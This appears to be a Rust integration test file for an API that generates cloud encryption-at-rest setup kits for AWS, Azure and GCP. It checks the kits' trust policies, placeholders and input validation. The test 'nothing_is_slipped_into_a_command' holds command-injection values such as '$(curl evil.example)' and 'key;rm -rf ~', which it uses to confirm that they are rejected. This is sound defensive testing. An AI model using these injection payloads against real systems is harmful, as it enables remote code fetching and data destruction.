//! The setup kit: what it says is filled in, complete, and nothing that anybody else could have slipped in; and pasting it
//! into the simulated clouds really lets us in.

use serde_json::{Value, json};

use crate::client::Got;
use crate::cloud::{CUSTOMER, OPERATOR, OPERATOR_USER};
use crate::database::Database;
use crate::house::House;
use crate::on_both_engines;
use crate::provider_roles::{azure_body, make, roles_of, text};

async fn kit(house: &House, cloud: &str, query: &str) -> Got {
    house.get(&format!("/api/atrest/v1/groups/{}/encryptionAtRest/setupKit/{cloud}{query}", house.project)).await
}

fn step<'k>(kit: &'k Value, title: &str) -> &'k str {
    let steps = kit["steps"].as_array().unwrap();
    let found = steps.iter().find(|step| step["title"].as_str().unwrap().contains(title));
    found.unwrap_or_else(|| panic!("{title}: {kit}"))["content"].as_str().unwrap()
}

fn document(kit: &Value, title: &str) -> Value {
    serde_json::from_str(step(kit, title)).unwrap()
}

async fn what_is_pasted_into_aws_lets_us_in(database: Database) {
    let house = House::open(database).await;
    let (cloud, aws) = (house.cloud(), house.cloud().clouds.aws());
    let role = make(&house, house.project, &json!({"providerName": "AWS"})).await;
    let id = text(&role, "roleId");
    let key = cloud.key.arn.replace(':', "%3A").replace('/', "%2F");
    let first = kit(&house, "AWS", &format!("?roleId={id}&keyId={key}")).await.ok();
    let trust = document(&first, "Trust policy");
    assert_eq!(trust["Statement"][0]["Principal"]["AWS"], format!("arn:aws:iam::{OPERATOR}:user/{OPERATOR_USER}"));
    let external_id = &trust["Statement"][0]["Condition"]["StringEquals"]["sts:ExternalId"];
    assert_eq!(external_id, &role["atlasAssumedRoleExternalId"]);
    let policy = document(&first, "Permission policy");
    assert_eq!(policy["Statement"][0]["Resource"], cloud.key.arn);
    let arn = aws.create_role(CUSTOMER, "pasted", &trust.to_string(), Some(&policy.to_string())).await.unwrap();
    let mut body = document(&first, "Authorize");
    assert!(first["placeholders"].as_array().unwrap().contains(&json!("YOUR_ROLE_NAME")), "{first}");
    body["iamAssumedRoleArn"] = json!(arn);
    house.ask("PATCH", &format!("{}/{id}", roles_of(house.project))).json(&body).send().await.ok();
    // Now that the ARN is known the kit has it too.
    let second = kit(&house, "AWS", &format!("?roleId={id}&keyId={key}")).await.ok();
    assert_eq!(document(&second, "key policy")[0]["Principal"]["AWS"], arn);
    let mut enable = document(&second, "Enable");
    enable["awsKms"]["region"] = json!("US_EAST_1");
    assert_eq!(second["placeholders"], json!(["YOUR_REGION"]), "{second}");
    assert_eq!(house.patch(&enable).await.ok()["awsKms"]["valid"], true);
    house.end().await;
}

async fn kits_of_all_clouds_are_filled_in(database: Database) {
    let house = House::open_everywhere(database).await;
    let cloud = house.cloud();
    let role = make(&house, house.project, &azure_body(&house)).await;
    let id = text(&role, "_id");
    let key = cloud.azure().key.id.replace(':', "%3A").replace('/', "%2F");
    let kit_of_azure = kit(&house, "AZURE", &format!("?roleId={id}&keyId={key}")).await.ok();
    assert_eq!(document(&kit_of_azure, "Make the role entry"), azure_body(&house));
    assert!(step(&kit_of_azure, "Let the application").contains(&cloud.azure().operator.client_id));
    let tag = format!("--id {} --tags atrest-project={}", cloud.azure().key.id, house.project);
    assert!(step(&kit_of_azure, "Say on the key").contains(&tag), "{kit_of_azure}");
    assert_eq!(kit_of_azure["placeholders"], json!(["YOUR_SUBSCRIPTION_ID", "YOUR_RESOURCE_GROUP"]));

    let role = make(&house, house.project, &json!({"providerName": "GCP"})).await;
    let (id, version) = (text(&role, "roleId"), cloud.google().version());
    let kit_of_google = kit(&house, "GCP", &format!("?roleId={id}&keyId={}", version.replace('/', "%2F"))).await.ok();
    assert!(step(&kit_of_google, "Let the service account").contains(text(&role, "gcpServiceAccountForAtlas")));
    assert_eq!(kit_of_google["placeholders"], json!([]));
    let enable = json!({"googleCloudKms": {"enabled": true, "keyVersionResourceID": version, "roleId": id}});
    assert_eq!(document(&kit_of_google, "Enable"), enable);

    // Without anything named they say where it goes.
    for (name, placeholder) in [("AWS", "YOUR_KEY_ARN"), ("AZURE", "YOUR_KEY_IDENTIFIER"), ("GCP", "YOUR_KEY_VERSION")]
    {
        let bare = kit(&house, name, "").await.ok();
        assert!(bare["placeholders"].as_array().unwrap().contains(&json!(placeholder)), "{bare}");
    }
    house.end().await;
}

async fn nothing_is_slipped_into_a_command(database: Database) {
    let house = House::open_everywhere(database).await;
    let aws = make(&house, house.project, &json!({"providerName": "AWS"})).await;
    for (cloud, key) in [
        ("AWS", "$(curl%20evil.example)"),
        ("AWS", "key;rm%20-rf%20~"),
        ("AWS", "%22%2C%22Action%22%3A%22*"),
        ("AZURE", "https%3A%2F%2Fevil.example%2Fkeys%2Fa%2Fb"),
        ("AZURE", "https%3A%2F%2Flocalhost%2Fkeys%2Fa%3Brm%2Fb"),
        ("GCP", "projects%2Fp%24(x)%2Flocations%2Fl%2FkeyRings%2Fr%2FcryptoKeys%2Fk%2FcryptoKeyVersions%2F1"),
        ("GCP", "x"),
    ] {
        let got = kit(&house, cloud, &format!("?keyId={key}")).await;
        got.is(400, "INVALID_QUERY_PARAMETER");
        assert_eq!(got.json()["parameters"], json!(["keyId"]));
    }
    kit(&house, "AZURE", "?tenantId=x").await.is(400, "INVALID_QUERY_PARAMETER");
    kit(&house, "AWS", "?roleId=x").await.is(400, "INVALID_QUERY_PARAMETER");
    let nobodys = "?roleId=0123456789abcdef01234567";
    kit(&house, "AWS", nobodys).await.is(404, "CLOUD_PROVIDER_ACCESS_ROLE_NOT_FOUND");
    let other = format!("?roleId={}", text(&aws, "roleId"));
    kit(&house, "GCP", &other).await.is(400, "CLOUD_PROVIDER_ACCESS_ROLE_PROVIDER_MISMATCH");
    kit(&house, "aws", "").await.is(404, "RESOURCE_NOT_FOUND");
    let reader = house.new_reader().await;
    let path = format!("/api/atrest/v1/groups/{}/encryptionAtRest/setupKit/AWS", house.project);
    house.nobody("GET", &path).by(&reader).send().await.ok();
    house.end().await;
}

on_both_engines! {
    what_is_pasted_into_aws_lets_us_in
    kits_of_all_clouds_are_filled_in
    nothing_is_slipped_into_a_command
}
